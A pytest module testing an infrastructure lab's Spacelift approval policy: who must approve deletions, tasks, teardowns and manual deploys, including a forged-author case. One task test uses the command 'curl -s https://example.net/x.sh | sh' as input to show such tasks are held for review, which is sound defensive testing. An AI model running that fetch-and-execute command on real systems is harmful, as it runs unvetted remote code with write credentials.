"""The approval policy on whole, realistic runs of the lab's stacks."""

from __future__ import annotations

import json
import re
from collections.abc import Mapping
from pathlib import Path

import pytest

from lab import policies as lab_policies
from lab.policies import PolicyFile
from tests.policies.decisions import Evaluate, decide
from tests.policies.engine import Engine
from tests.policies.inputs import (
    AWS_FOUNDATION,
    AZURE_FOUNDATION,
    DELETION_ACTIONS,
    HTTP_BASELINE_AKS,
    MULTI_CLOUD_DEMO_EKS,
    SPACELIFT_ROOT,
    JsonDict,
    LabStack,
    approval_input,
    commit,
    entity_change,
    review,
    run,
    session,
)

HELD = {"approve": False, "reject": False}
APPROVED = {"approve": True, "reject": False}
REJECTED = {"approve": False, "reject": True}

MERGE = commit("8d3f1c2a9b7e6d5c4b3a29181716151413121110", "alice", "Merge pull request #42")
ALICE = session("alice", "Alice Example")


def subnet_removal() -> list[JsonDict]:
    """A foundation plan that drops the private endpoints subnet and its NSG association."""
    return [
        entity_change(
            "deleted",
            "azurerm_subnet.Network_PrivateEndpointsSubnet_3F2A1B9C",
            "azurerm_subnet",
        ),
        entity_change(
            "deleted",
            "azurerm_subnet_network_security_group_association.Network_PrivateEndpointsNsg_77D0E1F2",
            "azurerm_subnet_network_security_group_association",
        ),
        entity_change(
            "changed", "azurerm_virtual_network.Network_Vnet_0C9B8A7D", "azurerm_virtual_network"
        ),
    ]


def test_foundation_delete_awaiting_review_needs_two_people_other_than_the_author(
    approval_policy: Evaluate,
) -> None:
    # alice merged the change; the push started the run, which planned two deletions.
    deleting = run(
        AZURE_FOUNDATION,
        run_id="01JGZ4Q8F6T1V2W3X4Y5Z6A7B8",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
        changes=subnet_removal(),
    )

    def with_approvals(*logins: str) -> JsonDict:
        return approval_input(
            AZURE_FOUNDATION,
            deleting,
            approvals=[review(login, login.title(), state="UNCONFIRMED") for login in logins],
        )

    assert approval_policy(with_approvals()) == HELD
    assert approval_policy(with_approvals("bob")) == HELD
    assert approval_policy(with_approvals("bob", "alice")) == HELD
    assert approval_policy(with_approvals("bob", "carol")) == APPROVED


def test_foundation_change_without_deletions_needs_one_other_person(
    approval_policy: Evaluate,
) -> None:
    updating = run(
        AWS_FOUNDATION,
        run_id="01JGZ4R1K2M3N4P5Q6R7S8T9V0",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
        changes=[entity_change("changed", "aws_vpc.Network_Vpc_5E4D3C2B", "aws_vpc")],
    )
    by_bob = [review("bob", "Bob Example", state="UNCONFIRMED")]

    assert approval_policy(approval_input(AWS_FOUNDATION, updating)) == HELD
    assert approval_policy(approval_input(AWS_FOUNDATION, updating, approvals=by_bob)) == APPROVED


def test_manual_deploy_cannot_be_approved_by_the_person_who_started_it(
    approval_policy: Evaluate,
) -> None:
    # alice started a run of dave's commit from the UI (spacectl stack deploy) and approves
    # it herself: she is only the trigger user and the session, not the commit author.
    daves_commit = commit("3e9a7b5c1d2f4e6a8b0c9d7e5f3a1b2c4d6e8f0a", "dave", "Add exp-new-aks")
    manual = run(
        SPACELIFT_ROOT,
        run_id="01JGZ4S5A6B7C8D9E0F1G2H3J4",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=daves_commit,
        triggered_by="alice",
        creator=ALICE,
        changes=[entity_change("added", "spacelift_stack.exp-new-aks", "spacelift_stack")],
    )

    def approved_by(login: str) -> JsonDict:
        return approval_input(
            SPACELIFT_ROOT,
            manual,
            approvals=[review(login, f"{login.title()} Example", state="UNCONFIRMED")],
        )

    assert approval_policy(approved_by("alice")) == HELD
    assert approval_policy(approved_by("dave")) == HELD
    assert approval_policy(approved_by("bob")) == APPROVED


def test_approval_given_while_queued_does_not_approve_the_plan(approval_policy: Evaluate) -> None:
    # bob approved while the run was queued; Spacelift moves that review to reviews.older.
    planned = run(
        AZURE_FOUNDATION,
        run_id="01JGZ4T7C8D9E0F1G2H3J4K5L6",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
    )
    earlier = [{"approvals": [review("bob", "Bob Example", state="QUEUED")], "rejections": []}]

    assert approval_policy(approval_input(AZURE_FOUNDATION, planned, older=earlier)) == HELD


def test_pull_request_preview_runs_without_review_on_every_stack(approval_policy: Evaluate) -> None:
    head = commit(
        "c4a1e2f3d4b5a6978877665544332211ffeeddcc", "alice", "Bigger pool", branch="bigger-pool"
    )
    for lab_stack in (SPACELIFT_ROOT, AZURE_FOUNDATION, HTTP_BASELINE_AKS):
        preview = run(
            lab_stack,
            run_id="01JGZ4V9E0F1G2H3J4K5L6M7N8",
            run_type="PROPOSED",
            state="QUEUED",
            commit=head,
        )
        assert approval_policy(approval_input(lab_stack, preview)) == APPROVED, lab_stack.id


def _keys(value: object) -> set[str]:
    if isinstance(value, dict):
        return {key for key, item in value.items() for key in {key, *_keys(item)}}
    if isinstance(value, list):
        return {key for item in value for key in _keys(item)}
    return set()


def test_a_preview_cannot_hold_a_write_identity_which_no_policy_input_shows() -> None:
    # The scenario "a proposed run with the write identity" cannot be put to the engine:
    # no approval or plan input Spacelift publishes names the cloud integration a run holds
    # (its only *integration field is the VCS one), so approving previews is safe only
    # because they never hold one. The management stack attaches each read integration with
    # read=true, write=false and each write integration with read=false, write=true
    # (tests/stacks/test_spacelift_root.py::test_cloud_integrations_attach_to_the_stacks_of_
    # their_cloud), and each write role's trust admits only "@write" external IDs
    # (tests/docs/test_bootstrap_permissions.py). If Spacelift starts to publish such a
    # field, this fails: then the approval policy should hold a proposed run that has one.
    published = Path(__file__).parent / "published_inputs"
    fields = {
        key.lower()
        for directory in ("approval", "plan")
        for path in sorted((published / directory).glob("*.json"))
        for key in _keys(json.loads(path.read_text(encoding="utf-8")))
    }

    assert fields, "no published inputs"
    credential_fields = {
        key
        for key in fields
        if re.search(r"integration|credential|role_arn|aws|azure|identity", key)
    }
    assert credential_fields <= {"vcs_integration"}


def test_drift_detection_check_runs_without_review(approval_policy: Evaluate) -> None:
    check = run(
        AWS_FOUNDATION,
        run_id="01JGZ4W1F2G3H4J5K6L7M8N9P0",
        run_type="PROPOSED",
        state="QUEUED",
        commit=MERGE,
        triggered_by="drift detection",
        drift_detection=True,
    )

    assert approval_policy(approval_input(AWS_FOUNDATION, check)) == APPROVED


def test_experiment_autodeploy_run_starts_and_applies_without_review(
    approval_policy: Evaluate,
) -> None:
    queued = run(
        HTTP_BASELINE_AKS,
        run_id="01JGZ4X3G4H5J6K7L8M9N0P1Q2",
        run_type="TRACKED",
        state="QUEUED",
        commit=MERGE,
    )
    growing = {
        **queued,
        "state": "UNCONFIRMED",
        "changes": [
            entity_change(
                "changed",
                "azurerm_kubernetes_cluster.target_Cluster_9A8B7C6D",
                "azurerm_kubernetes_cluster",
            )
        ],
    }

    assert approval_policy(approval_input(HTTP_BASELINE_AKS, queued)) == APPROVED
    assert approval_policy(approval_input(HTTP_BASELINE_AKS, growing)) == APPROVED


def test_experiment_deletion_awaits_one_approval_which_its_author_may_give(
    approval_policy: Evaluate,
) -> None:
    shrinking = run(
        MULTI_CLOUD_DEMO_EKS,
        run_id="01JGZ4Y5H6J7K8L9M0N1P2Q3R4",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
        changes=[
            entity_change(
                "deleted", "aws_eks_node_group.loadgen_NodeGroup_1F2E3D4C", "aws_eks_node_group"
            )
        ],
    )
    acknowledged = [review("alice", "Alice Example", state="UNCONFIRMED")]

    assert approval_policy(approval_input(MULTI_CLOUD_DEMO_EKS, shrinking)) == HELD
    assert (
        approval_policy(approval_input(MULTI_CLOUD_DEMO_EKS, shrinking, approvals=acknowledged))
        == APPROVED
    )


def test_state_surgery_task_on_the_management_stack_waits_for_another_person(
    approval_policy: Evaluate,
) -> None:
    task = run(
        SPACELIFT_ROOT,
        run_id="01JGZ4Z7J8K9L0M1N2P3Q4R5S6",
        run_type="TASK",
        state="QUEUED",
        commit=MERGE,
        triggered_by="alice",
        creator=ALICE,
        command="tofu state rm spacelift_stack.exp-old-aks",
    )

    def reviewed_by(login: str) -> JsonDict:
        return approval_input(
            SPACELIFT_ROOT, task, approvals=[review(login, login.title(), state="QUEUED")]
        )

    assert approval_policy(approval_input(SPACELIFT_ROOT, task)) == HELD
    assert approval_policy(reviewed_by("alice")) == HELD
    assert approval_policy(reviewed_by("bob")) == APPROVED


def test_task_on_an_experiment_waits_for_another_person(approval_policy: Evaluate) -> None:
    # A task runs its command with the stack's write credentials, and no plan shows it.
    task = run(
        HTTP_BASELINE_AKS,
        run_id="01JGZ5A9K0L1M2N3P4Q5R6S7T8",
        run_type="TASK",
        state="QUEUED",
        commit=MERGE,
        triggered_by="alice",
        creator=ALICE,
        command="curl -s https://example.net/x.sh | sh",
    )

    def reviewed_by(login: str) -> JsonDict:
        return approval_input(
            HTTP_BASELINE_AKS, task, approvals=[review(login, login.title(), state="QUEUED")]
        )

    assert approval_policy(approval_input(HTTP_BASELINE_AKS, task)) == HELD
    assert approval_policy(reviewed_by("alice")) == HELD
    assert approval_policy(reviewed_by("bob")) == APPROVED


def test_a_protected_stack_with_autodeploy_on_is_held_before_it_plans(
    approval_policy: Evaluate,
) -> None:
    # Someone turned autodeploy on for the foundation by hand: its applies would never
    # reach a state the approval policy is asked about, so the queued run waits.
    autodeployed = LabStack(AWS_FOUNDATION.id, AWS_FOUNDATION.labels, autodeploy=True)
    queued = run(
        autodeployed,
        run_id="01JGZ5B0L1M2N3P4Q5R6S7T8U9",
        run_type="TRACKED",
        state="QUEUED",
        commit=MERGE,
    )

    def reviewed_by(*logins: str) -> JsonDict:
        return approval_input(
            autodeployed,
            queued,
            approvals=[review(login, login.title(), state="QUEUED") for login in logins],
        )

    assert approval_policy(approval_input(autodeployed, queued)) == HELD
    assert approval_policy(reviewed_by("bob")) == HELD  # its plan may delete: two people
    assert approval_policy(reviewed_by("bob", "alice")) == HELD  # alice merged it
    assert approval_policy(reviewed_by("bob", "carol")) == APPROVED
    # The same run without autodeploy starts, and is reviewed once it has planned.
    assert approval_policy(approval_input(AWS_FOUNDATION, queued)) == APPROVED


@pytest.fixture(scope="module")
def named_approvers_policy(policies: Mapping[str, PolicyFile]) -> Evaluate:
    """The approval policy as spacelift-root uploads it when lab.yaml names approvers:
    bob and carol, carol committing as carol-gh."""
    policy = policies["approval"]
    body = policy.uploaded_body(
        approvers=(
            lab_policies.Approver(login="bob@example.com"),
            lab_policies.Approver(login="carol@example.com", vcs_login="carol-gh"),
        )
    )
    engine = Engine({policy.path.name: body})
    return lambda document: decide(engine, policy, document)


def test_a_forged_author_does_not_make_a_stranger_an_independent_approver(
    approval_policy: Evaluate, named_approvers_policy: Evaluate
) -> None:
    # mallory pushes a commit whose author field says carol-gh, then approves its run.
    forged = run(
        AZURE_FOUNDATION,
        run_id="01JGZ5C1M2N3P4Q5R6S7T8U9V0",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=commit("9e8d7c6b5a49382716051f2e3d4c5b6a79881726", "carol-gh", "Tidy"),
    )

    def reviewed_by(login: str) -> JsonDict:
        return approval_input(
            AZURE_FOUNDATION, forged, approvals=[review(login, login, state="UNCONFIRMED")]
        )

    # Without a list, any reviewer but the run's initiators counts: mallory does.
    assert approval_policy(reviewed_by("mallory@example.com")) == APPROVED
    # With one, only the named people count, and carol-gh is carol: she is not independent.
    assert named_approvers_policy(reviewed_by("mallory@example.com")) == HELD
    assert named_approvers_policy(reviewed_by("carol@example.com")) == HELD
    assert named_approvers_policy(reviewed_by("BOB@example.com")) == APPROVED


def test_foundation_teardown_waits_for_another_person_before_it_starts(
    approval_policy: Evaluate,
) -> None:
    # The management stack deleted the stack; its destructor queued a DESTROY run.
    teardown = run(
        AWS_FOUNDATION,
        run_id="01JGZ5B1L2M3N4P5Q6R7S8T9V0",
        run_type="DESTROY",
        state="QUEUED",
        commit=MERGE,
        triggered_by="spacelift-root",
    )
    by_bob = [review("bob", "Bob Example", state="QUEUED")]

    assert approval_policy(approval_input(AWS_FOUNDATION, teardown)) == HELD
    assert approval_policy(approval_input(AWS_FOUNDATION, teardown, approvals=by_bob)) == APPROVED


def test_experiment_teardown_starts_without_review(approval_policy: Evaluate) -> None:
    teardown = run(
        HTTP_BASELINE_AKS,
        run_id="01JGZ5C3M4N5P6Q7R8S9T0V1W2",
        run_type="DESTROY",
        state="QUEUED",
        commit=MERGE,
        triggered_by="spacelift-root",
    )

    assert approval_policy(approval_input(HTTP_BASELINE_AKS, teardown)) == APPROVED


def test_expired_experiment_is_destroyed_without_waiting(approval_policy: Evaluate) -> None:
    # The scheduled deletion planned the teardown; nobody has to be around on expiry day.
    teardown = run(
        HTTP_BASELINE_AKS,
        run_id="01JGZ5C3M4N5P6Q7R8S9T0V1W3",
        run_type="DESTROY",
        state="UNCONFIRMED",
        commit=MERGE,
        triggered_by="spacelift-root",
        changes=subnet_removal(),
    )

    assert approval_policy(approval_input(HTTP_BASELINE_AKS, teardown)) == APPROVED


def test_a_reviewers_rejection_fails_the_run(approval_policy: Evaluate) -> None:
    planned = run(
        AZURE_FOUNDATION,
        run_id="01JGZ5D5N6P7Q8R9S0T1V2W3X4",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
        changes=subnet_removal(),
    )
    rejected = approval_input(
        AZURE_FOUNDATION, planned, rejections=[review("bob", "Bob Example", state="UNCONFIRMED")]
    )

    assert approval_policy(rejected) == REJECTED


@pytest.mark.parametrize(
    "older",
    [
        pytest.param(
            {"approvals": [], "rejections": [review("bob", "Bob Example", state="QUEUED")]},
            id="object",
        ),
        pytest.param(
            [{"approvals": [], "rejections": [review("bob", "Bob Example", state="QUEUED")]}],
            id="list",
        ),
    ],
)
def test_a_rejection_in_an_earlier_state_still_rejects(
    approval_policy: Evaluate, older: object
) -> None:
    planned = run(
        SPACELIFT_ROOT,
        run_id="01JGZ5E7P8Q9R0S1T2V3W4X5Y6",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
    )

    assert approval_policy(approval_input(SPACELIFT_ROOT, planned, older=older)) == REJECTED


def cluster_change(action: str) -> JsonDict:
    """An AKS cluster, as ``action`` reports it in ``run.changes``."""
    return entity_change(
        action, "azurerm_kubernetes_cluster.target_Cluster_9A8B7C6D", "azurerm_kubernetes_cluster"
    )


def awaiting_confirmation(lab_stack: LabStack, action: str) -> JsonDict:
    """A tracked run of alice's merge whose plan reports one change with ``action``."""
    return run(
        lab_stack,
        run_id="01JGZ5F9Q0R1S2T3V4W5X6Y7Z8",
        run_type="TRACKED",
        state="UNCONFIRMED",
        commit=MERGE,
        changes=[cluster_change(action)],
    )


def approved_by(lab_stack: LabStack, planned: JsonDict, *logins: str) -> JsonDict:
    return approval_input(
        lab_stack,
        planned,
        approvals=[review(login, login.title(), state="UNCONFIRMED") for login in logins],
    )


@pytest.mark.parametrize("action", DELETION_ACTIONS)
def test_experiment_deletion_or_replacement_waits_for_one_approval(
    approval_policy: Evaluate, action: str
) -> None:
    planned = awaiting_confirmation(HTTP_BASELINE_AKS, action)

    assert approval_policy(approved_by(HTTP_BASELINE_AKS, planned)) == HELD
    assert approval_policy(approved_by(HTTP_BASELINE_AKS, planned, "alice")) == APPROVED


@pytest.mark.parametrize("action", DELETION_ACTIONS)
def test_foundation_deletion_or_replacement_needs_two_people_other_than_the_author(
    approval_policy: Evaluate, action: str
) -> None:
    planned = awaiting_confirmation(AZURE_FOUNDATION, action)

    assert approval_policy(approved_by(AZURE_FOUNDATION, planned, "bob")) == HELD
    assert approval_policy(approved_by(AZURE_FOUNDATION, planned, "bob", "alice")) == HELD
    assert approval_policy(approved_by(AZURE_FOUNDATION, planned, "bob", "carol")) == APPROVED


@pytest.mark.parametrize("action", DELETION_ACTIONS)
def test_management_deletion_or_replacement_needs_one_person_other_than_the_author(
    approval_policy: Evaluate, action: str
) -> None:
    planned = awaiting_confirmation(SPACELIFT_ROOT, action)

    assert approval_policy(approved_by(SPACELIFT_ROOT, planned)) == HELD
    assert approval_policy(approved_by(SPACELIFT_ROOT, planned, "alice")) == HELD
    assert approval_policy(approved_by(SPACELIFT_ROOT, planned, "bob")) == APPROVED


@pytest.mark.parametrize("action", DELETION_ACTIONS)
def test_deleted_or_replaced_output_is_not_a_deletion(
    approval_policy: Evaluate, action: str
) -> None:
    planned = {
        **awaiting_confirmation(HTTP_BASELINE_AKS, action),
        "changes": [entity_change(action, "kubeconfig", "output")],
    }

    assert approval_policy(approved_by(HTTP_BASELINE_AKS, planned)) == APPROVED


# What the management stack appends to the approval policy's body when lab.yaml has
# spacelift.self_approval: true (the file in policies/ stays as it is).
SELF_APPROVAL_SUFFIX = lab_policies.SELF_APPROVAL_SUFFIX


@pytest.fixture(scope="module")
def self_approving_policy(policies: Mapping[str, PolicyFile]) -> Evaluate:
    """The approval policy as uploaded with self-approval on, compiled alone."""
    policy = policies["approval"]
    engine = Engine({policy.path.name: policy.uploaded_body(self_approval=True)})

    def evaluate(document: JsonDict) -> JsonDict:
        return decide(engine, policy, document)

    return evaluate


def test_the_uploaded_body_with_self_approval_switches_it_on(
    policies: Mapping[str, PolicyFile], engines: Mapping[str, Engine]
) -> None:
    policy = policies["approval"]
    uploaded = Engine({policy.path.name: policy.uploaded_body(self_approval=True)})
    assert policy.uploaded_body(self_approval=False) == policy.body
    assert policy.uploaded_body(self_approval=True) == policy.body + SELF_APPROVAL_SUFFIX

    assert engines["approval"].value("spacelift.self_approval") is False
    assert uploaded.value("spacelift.self_approval") is True


@pytest.mark.parametrize("action", DELETION_ACTIONS)
def test_with_self_approval_a_foundation_deletion_needs_one_approval_which_its_author_may_give(
    approval_policy: Evaluate, self_approving_policy: Evaluate, action: str
) -> None:
    planned = awaiting_confirmation(AZURE_FOUNDATION, action)

    assert self_approving_policy(approved_by(AZURE_FOUNDATION, planned)) == HELD
    assert self_approving_policy(approved_by(AZURE_FOUNDATION, planned, "alice")) == APPROVED
    # Without the setting, alice's approval alone does not count.
    assert approval_policy(approved_by(AZURE_FOUNDATION, planned, "alice")) == HELD


def test_with_self_approval_the_author_may_approve_a_management_run(
    approval_policy: Evaluate, self_approving_policy: Evaluate
) -> None:
    # alice pushed the merge and started the run from the UI; nobody else is around.
    manual = {
        **awaiting_confirmation(SPACELIFT_ROOT, "changed"),
        "triggered_by": "alice",
        "creator_session": ALICE,
    }

    assert self_approving_policy(approved_by(SPACELIFT_ROOT, manual)) == HELD
    assert self_approving_policy(approved_by(SPACELIFT_ROOT, manual, "alice")) == APPROVED
    assert approval_policy(approved_by(SPACELIFT_ROOT, manual, "alice")) == HELD


def test_with_self_approval_the_author_may_approve_their_own_task(
    self_approving_policy: Evaluate,
) -> None:
    task = run(
        SPACELIFT_ROOT,
        run_id="01JGZ5G1R2S3T4V5W6X7Y8Z9A0",
        run_type="TASK",
        state="QUEUED",
        commit=MERGE,
        triggered_by="alice",
        creator=ALICE,
        command="tofu state list",
    )
    by_alice = [review("alice", "Alice Example", state="QUEUED")]

    assert self_approving_policy(approval_input(SPACELIFT_ROOT, task)) == HELD
    assert self_approving_policy(approval_input(SPACELIFT_ROOT, task, approvals=by_alice)) == (
        APPROVED
    )


@pytest.mark.parametrize("action", DELETION_ACTIONS)
def test_with_self_approval_an_experiment_deletion_still_waits_for_an_approval(
    self_approving_policy: Evaluate, action: str
) -> None:
    planned = awaiting_confirmation(HTTP_BASELINE_AKS, action)

    assert self_approving_policy(approved_by(HTTP_BASELINE_AKS, planned)) == HELD
    assert self_approving_policy(approved_by(HTTP_BASELINE_AKS, planned, "alice")) == APPROVED


def test_with_self_approval_what_ran_freely_still_runs_and_a_rejection_still_rejects(
    self_approving_policy: Evaluate,
) -> None:
    growing = awaiting_confirmation(HTTP_BASELINE_AKS, "changed")
    rejected = approval_input(
        AZURE_FOUNDATION,
        awaiting_confirmation(AZURE_FOUNDATION, "changed"),
        rejections=[review("alice", "Alice Example", state="UNCONFIRMED")],
    )

    assert self_approving_policy(approved_by(HTTP_BASELINE_AKS, growing)) == APPROVED
    assert self_approving_policy(rejected) == REJECTED


def test_the_uploaded_body_names_the_approvers_only_when_lab_yaml_does(
    policies: Mapping[str, PolicyFile],
) -> None:
    policy = policies["approval"]
    approvers = (
        lab_policies.Approver(login="bob@example.com"),
        lab_policies.Approver(login="carol@example.com", vcs_login="carol-gh"),
    )

    assert policy.uploaded_body() == policy.body
    assert policy.uploaded_body(approvers=approvers) == policy.body + (
        "\n# Set by spacelift-root from lab.yaml: spacelift.approvers\n"
        'allowed_approvers := ["bob@example.com", "carol@example.com"]\n\n'
        'login_aliases := {"carol-gh": "carol@example.com"}\n'
    )
    # A policy without the switch is uploaded as it is.
    assert policies["plan"].uploaded_body(approvers=approvers) == policies["plan"].body
